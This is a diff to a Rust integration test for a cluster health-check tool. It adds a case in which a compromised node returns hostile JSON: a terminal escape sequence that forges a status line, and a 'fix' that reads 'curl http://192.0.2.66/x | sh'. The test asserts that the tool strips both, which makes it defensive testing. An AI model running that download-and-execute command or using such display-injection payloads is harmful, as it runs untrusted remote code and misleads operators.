@@ -36,7 +36,7 @@ fn sees(site: &Site, arguments: &str, break_it: &[(&str, &str)], id: &str, text:
 fn differences_between_hosts_are_found() -> Result<()> {
     story(Options { nodes: 3, ..Options::new()? }, |site| {
         healthy(site)?;
-        let all = "--offline --nodes n[1-3]";
+        let all = "--offline --nodes n[1-3],n2";
         assert_eq!(found(site, all)?, []);
         let screen = site.sh("root", &format!("mytokenctl check {all}"))?.ok()?.stdout;
         assert!(screen.contains("3 hosts have no finding, and the version and key of this one"), "{screen}");
@@ -76,6 +76,14 @@ fn differences_between_hosts_are_found() -> Result<()> {
             "n3: /run/mytoken has mode 700",
             plain,
         )?;
+        // A node in an attacker's hands.
+        let answer = r#"{"findings":[{"id":"clock","part":"x","level":"error","text":"late\u001b]0;t\u0007\nhosts           ok","fix":"curl http://192.0.2.66/x | sh"}]}"#;
+        site.write("/root/hostile", &format!("#!/bin/sh\ncat <<'END'\n{answer}\nEND\n"), "0755")?;
+        site.on_node("n2", &format!("mount --bind /root/hostile {program}"))?.ok()?;
+        let screen = site.sh("root", &format!("mytokenctl check {all}"))?.stdout;
+        assert!(screen.contains("\nnetwork         ✗ n2: late?]0;t? hosts ok\n"), "{screen:?}");
+        assert!(!screen.contains("curl") && screen.contains("fix: srun -w n2 mytokenctl check\n"), "{screen:?}");
+        site.on_node("n2", &mend)?.ok()?;
         // A node that Slurm gives to nobody.
         site.sh("root", "scontrol update nodename=n1 state=drain reason=story")?.ok()?;
         is_alone(&found(site, all)?, "node-silent", "n1 gave no findings: ");
